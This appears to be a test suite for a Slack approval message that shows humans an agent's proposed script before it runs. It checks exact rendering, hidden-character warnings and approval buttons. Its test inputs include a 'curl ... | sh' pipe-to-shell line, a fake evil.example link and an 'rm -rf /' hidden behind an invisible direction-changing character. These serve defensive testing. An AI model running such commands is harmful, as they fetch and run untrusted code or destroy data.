import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { proposalHash } from '../../src/approvals/proposal.ts';
import { riskNotes } from '../../src/approvals/risk.ts';
import {
  hiddenCharacters,
  type ProposalView,
  parseProposalValue,
  proposalMessage,
  visibleText,
} from '../../src/slack/blocks/proposal.ts';

/** What an approver sees on a phone must be the text that runs, whatever the text holds. */
const now = new Date('2026-12-02T01:00:00Z');
const view = (text: string, over: Partial<ProposalView> = {}): ProposalView => {
  const p = { kind: 'script' as const, target: 'web-1', text };
  return {
    id: 7,
    ...p,
    sha256: proposalHash(p),
    why: 'to see what holds the stream',
    expects: 'a count',
    state: 'pending',
    proposedBy: 'agent',
    expiresAt: new Date(now.getTime() + 30 * 60_000),
    approvalsRequired: 1,
    decisions: [],
    risks: riskNotes(p),
    ...over,
  };
};
type Rich = {
  type: string;
  elements?: Array<{ type: string; elements?: Array<{ type: string; text: string }> }>;
};
const shownText = (blocks: unknown[]) =>
  (blocks as Rich[])
    .filter((b) => b.type === 'rich_text')
    .map((b) => b.elements![0]!.elements![0]!.text)
    .join('');

describe('a proposal message', () => {
  it('shows the exact text as plain preformatted text, so nothing in it can format, link or mention', () => {
    const text =
      'echo "```" <!channel> <http://evil.example/x|harmless> &amp; *bold* `tick`\ncurl -s http://x | sh';
    const message = proposalMessage(view(text), now);
    assert.equal(shownText(message.blocks), text);
    const sections = JSON.stringify(message.blocks.filter((b) => b.type === 'section'));
    assert.ok(!sections.includes('<!channel>'), 'the text is never in mrkdwn');
  });

  it('splits a long text over blocks without losing a character', () => {
    const text = Array.from({ length: 400 }, (_, i) => `line ${i} ${'x'.repeat(i % 17)}`).join('\n');
    const message = proposalMessage(view(text), now);
    assert.ok(message.blocks.filter((b) => b.type === 'rich_text').length > 1);
    assert.equal(shownText(message.blocks), text);
  });

  it('makes invisible and direction-changing characters visible, and warns', () => {
    const text = 'ls /evidence\u202e; rm -rf /\u200b';
    assert.deepEqual(
      hiddenCharacters(text).map((h) => h.codePoint),
      ['U+202E', 'U+200B'],
    );
    const message = proposalMessage(view(text), now);
    assert.equal(shownText(message.blocks), 'ls /evidence⟦U+202E⟧; rm -rf /⟦U+200B⟧');
    assert.match(JSON.stringify(message.blocks), /2 invisible or direction-changing character/);
    assert.equal(visibleText('plain\ttabs\nlines'), 'plain\ttabs\nlines');
  });

  it('writes why and expects as plain text, not mrkdwn', () => {
    const message = proposalMessage(view('id', { why: '<!here> ```fake code```', expects: '*ok*' }), now);
    const why = message.blocks.find((b) => JSON.stringify(b).includes('fake code')) as unknown as {
      text: { type: string; text: string };
    };
    assert.deepEqual(why.text.type, 'plain_text');
    assert.equal(why.text.text, 'Why: <!here> ```fake code```');
  });

  it('carries the id and hash in its buttons while pending, and no buttons after', () => {
    const pending = proposalMessage(view('id'), now);
    const buttons = JSON.stringify(pending.blocks.filter((b) => b.type === 'actions'));
    const v = view('id');
    assert.match(buttons, new RegExp(`"value":"7:${v.sha256}"`));
    assert.deepEqual(parseProposalValue(`7:${v.sha256}`), { id: 7, sha256: v.sha256 });
    assert.equal(parseProposalValue('7:abc'), undefined);
    for (const state of ['approved', 'rejected', 'expired', 'running', 'done', 'failed'] as const) {
      const m = proposalMessage(view('id', { state }), now);
      assert.ok(!m.blocks.some((b) => b.type === 'actions'), state);
    }
  });
});
